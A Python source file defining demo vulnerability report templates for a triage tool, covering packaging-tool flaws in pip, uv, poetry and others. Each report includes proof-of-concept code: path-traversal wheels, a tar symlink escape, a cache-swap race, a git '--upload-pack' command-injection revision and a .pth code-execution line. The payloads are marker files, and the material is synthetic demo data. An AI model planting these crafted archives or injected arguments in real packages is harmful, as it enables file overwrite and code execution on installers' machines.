"""Demo report classes about unpacking, building and installing artefacts: archives, caches, hooks, .pth files."""

from __future__ import annotations

from triage_tui.demo.vuln_class import VulnClass

WHEEL_TRAVERSAL = VulnClass(
    key="wheel-traversal",
    projects=("pip", "uv", "poetry", "pdm", "conda"),
    titles=(
        "Path traversal in wheel extraction writes outside site-packages",
        "Wheel installer follows '../' entries in archive member names",
    ),
    summary=(
        "When {tool} installs a wheel it joins each archive member name onto the target directory. "
        "Member names containing '../' segments (or an absolute path on Windows) are not rejected, so a "
        "crafted wheel can write files anywhere the installing user can write."
    ),
    steps=(
        "Build the attached wheel (or run build_evil_wheel.py).",
        "Create a fresh virtual environment.",
        "Run `{command} ./evil-0.1-py3-none-any.whl`.",
        "Observe that ~/.bashrc.d/evil.sh has been created.",
    ),
    poc=(
        "import zipfile\n"
        "with zipfile.ZipFile('evil-0.1-py3-none-any.whl', 'w') as z:\n"
        "    z.writestr('evil/__init__.py', '')\n"
        "    z.writestr('../../../../.bashrc.d/evil.sh', 'echo owned\\n')\n"
        "    z.writestr('evil-0.1.dist-info/RECORD', '')\n"
    ),
    impact=(
        "Arbitrary file write as the installing user at install time, before any code from the "
        "package is imported. Installing from a lock file with hashes does not help when the "
        "malicious artifact is the one that was locked."
    ),
    cwe="CWE-22",
    vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",),
    attachment="wheel",
)

TAR_SYMLINK = VulnClass(
    key="tar-symlink",
    projects=("pip", "uv", "poetry", "pdm", "setuptools", "conda"),
    titles=(
        "tarfile symlink escape when unpacking sdists",
        "Symlink member in source distribution lets later members escape the build directory",
    ),
    summary=(
        "{tool} unpacks source distributions with tarfile but does not use the 'data' extraction filter "
        "on the Python versions it supports. A member that is a symlink pointing outside the build "
        "directory, followed by a regular member written through that symlink, escapes the directory."
    ),
    steps=(
        "Create an sdist whose first member is `pkg-1.0/link -> /tmp` and whose second is `pkg-1.0/link/pwned`.",
        "Run `{command} ./pkg-1.0.tar.gz`.",
        "Check that /tmp/pwned exists even though the build failed.",
    ),
    poc=(
        "import io, tarfile\n"
        "with tarfile.open('pkg-1.0.tar.gz', 'w:gz') as tar:\n"
        "    link = tarfile.TarInfo('pkg-1.0/link'); link.type = tarfile.SYMTYPE; link.linkname = '/tmp'\n"
        "    tar.addfile(link)\n"
        "    data = b'pwned\\n'; info = tarfile.TarInfo('pkg-1.0/link/pwned'); info.size = len(data)\n"
        "    tar.addfile(info, io.BytesIO(data))\n"
    ),
    impact="Arbitrary file write outside the temporary build directory when an sdist is unpacked.",
    cwe="CWE-59",
    vectors=(
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",
        "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:N/VI:H/VA:N/SC:N/SI:N/SA:N",
    ),
    attachment="sdist",
)

HASH_BYPASS = VulnClass(
    key="hash-bypass",
    projects=("pip", "uv", "poetry", "pdm"),
    titles=(
        "Hash-checking mode bypass for dependencies pulled in by URL",
        "Lock file hashes are not enforced for direct URL requirements",
    ),
    summary=(
        "In hash-checking mode {tool} is supposed to refuse any artifact whose hash is not pinned. For "
        "requirements given as a direct URL with a `#sha256=` fragment, the fragment is trusted instead of "
        "the pinned hash, so an attacker who can change the URL can also change the expected hash."
    ),
    steps=(
        "Write a requirements file with `--require-hashes` and one URL requirement.",
        "Replace the artifact behind the URL and update the fragment.",
        "Run `{command} -r requirements.txt`; it installs without complaint.",
    ),
    poc="pkg @ https://files.example/pkg-1.0-py3-none-any.whl#sha256=0000...\n",
    impact="Integrity guarantees of hash pinning silently do not apply to URL requirements.",
    cwe="CWE-354",
    vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:H/A:H",),
    attachment="patch",
)

CACHE_TOCTOU = VulnClass(
    key="cache-toctou",
    projects=("pip", "uv", "poetry", "pdm", "conda"),
    titles=(
        "TOCTOU race in shared cache directory",
        "Cache entries in a world-writable directory can be swapped between check and use",
    ),
    summary=(
        "{tool} verifies a cached artifact and then opens it again by path to unpack it. When the cache "
        "lives in a directory another local user can write to (shared CI runners, a misconfigured "
        "XDG_CACHE_HOME), the file can be replaced between the check and the use."
    ),
    steps=(
        "Point the cache at /tmp/shared-cache as user A.",
        "As user B, run the attached race script which watches for the verified file.",
        "As user A, run `{command} requests`; the swapped artifact is installed.",
    ),
    poc=(
        "import os, time\n"
        "while True:\n"
        "    for root, _, files in os.walk('/tmp/shared-cache'):\n"
        "        for name in files:\n"
        "            if name.endswith('.whl'):\n"
        "                os.replace('/tmp/evil.whl', os.path.join(root, name))\n"
        "    time.sleep(0.001)\n"
    ),
    impact="Local privilege escalation between users that share a cache directory.",
    cwe="CWE-367",
    vectors=("CVSS:3.1/AV:L/AC:H/PR:L/UI:R/S:U/C:H/I:H/A:H",),
    attachment="poc.py",
)

BUILD_HOOK = VulnClass(
    key="build-hook",
    projects=("setuptools", "hatch", "pip", "uv", "poetry", "pdm"),
    titles=(
        "Code execution via build backend hooks during metadata preparation",
        "Arbitrary code runs when resolving an sdist, even with --dry-run",
    ),
    summary=(
        "Resolving a source distribution makes {tool} call the build backend's "
        "prepare_metadata_for_build_wheel hook, which runs code from the package. This happens even for "
        "commands that users expect to be read-only, such as a dry run or a lock."
    ),
    steps=(
        "Publish an sdist whose build backend writes a file in its metadata hook.",
        "Run `{command} --dry-run evilpkg`.",
        "Observe the file written by the hook.",
    ),
    poc=(
        "# backend.py\n"
        "def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):\n"
        "    open('/tmp/ran-during-dry-run', 'w').write('hello')\n"
        "    raise SystemExit(0)\n"
    ),
    impact=(
        "Code execution for anyone who resolves the package. (I realise building packages runs code by "
        "design; the surprise here is the dry-run / lock path.)"
    ),
    cwe="CWE-94",
    vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",),
    attachment="poc.py",
)

ZIP_SLIP = VulnClass(
    key="zip-slip",
    projects=("pip", "uv", "setuptools", "hatch", "conda"),
    titles=(
        "Zip-slip in archive unpacking",
        "Absolute paths in zip members are honoured on extraction",
    ),
    summary=(
        "The helper {tool} uses to unpack zip archives checks for '../' but not for absolute member "
        "names or drive letters, so a zip with a member named '/etc/cron.d/job' (or 'C:\\\\Users\\\\...') "
        "is written there."
    ),
    steps=(
        "Create a zip containing a member with an absolute name.",
        "Run `{command} ./pkg.zip`.",
        "The file appears at the absolute path.",
    ),
    poc=("import zipfile\nwith zipfile.ZipFile('pkg.zip', 'w') as z:\n    z.writestr('/tmp/zip-slip-proof', 'x')\n"),
    impact="Arbitrary file write as the installing user.",
    cwe="CWE-22",
    vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",),
    attachment="wheel",
)

RECORD_SYMLINK = VulnClass(
    key="record-symlink",
    projects=("pip", "uv", "poetry", "pdm"),
    titles=(
        "Symlink listed in RECORD makes uninstall delete files outside the environment",
        "Uninstall follows paths from RECORD without checking they stay in site-packages",
    ),
    summary=(
        "The RECORD file of an installed distribution is trusted on uninstall. Entries with '../' or "
        "absolute paths, or a directory replaced by a symlink after install, make {tool} remove files "
        "outside the environment."
    ),
    steps=(
        "Install a wheel whose RECORD lists `../../../../home/user/.ssh/authorized_keys`.",
        "Uninstall the package with {tool}.",
        "authorized_keys is gone.",
    ),
    poc="pkg-1.0.dist-info/RECORD:\n../../../../home/user/.ssh/authorized_keys,,\n",
    impact="Arbitrary file deletion as the user running the uninstall.",
    cwe="CWE-59",
    vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:L/A:H",),
)

VCS_INJECTION = VulnClass(
    key="vcs-injection",
    projects=("pip", "uv", "poetry", "pdm"),
    titles=(
        "Command injection through VCS URL options",
        "git URL with a leading dash is passed to git as an option",
    ),
    summary=(
        "VCS requirement URLs are split into a repository and a revision, and the revision is passed to "
        "git without a `--` separator. A revision such as `--upload-pack=touch /tmp/x` becomes a git "
        "option, which runs an arbitrary command."
    ),
    steps=(
        "Add `pkg @ git+https://example.org/repo.git@--upload-pack=id>/tmp/pwned` to requirements.",
        "Run `{command} -r requirements.txt`.",
        "A file named pwned appears in /tmp.",
    ),
    poc="{command} 'pkg @ git+https://example.org/r.git@--upload-pack=touch${IFS}/tmp/pwned'\n",
    impact="Command execution from a requirements file that users may consider data.",
    cwe="CWE-88",
    vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",),
    attachment="patch",
)

PTH_INJECTION = VulnClass(
    key="pth-injection",
    projects=("setuptools", "hatch", "pip", "uv"),
    titles=(
        "Editable install writes an attacker-controlled .pth file",
        "Crafted project name injects code into the editable-install .pth",
    ),
    summary=(
        "For editable installs {tool} writes a .pth file whose content is derived from the project name "
        "and path. A name containing a newline followed by `import os; ...` is executed at every "
        "interpreter start-up in that environment."
    ),
    steps=(
        "Create a project whose name (after normalisation) still contains a newline.",
        "Run `{command} -e .`.",
        "Start Python: the injected line runs.",
    ),
    poc="__editable__.evil-1.0.pth:\n/path/to/src\nimport os; os.system('id > /tmp/pth-ran')\n",
    impact="Persistent code execution in the environment beyond the install step.",
    cwe="CWE-94",
    vectors=("CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",),
)
